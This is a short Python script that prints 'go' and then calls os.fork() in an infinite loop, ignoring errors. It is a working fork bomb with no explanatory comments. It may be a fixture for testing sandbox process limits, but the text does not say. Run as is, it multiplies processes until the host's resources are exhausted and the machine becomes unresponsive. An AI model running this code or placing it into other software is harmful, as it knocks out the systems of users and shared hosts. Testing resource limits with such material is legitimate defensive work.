import os

print('go', flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
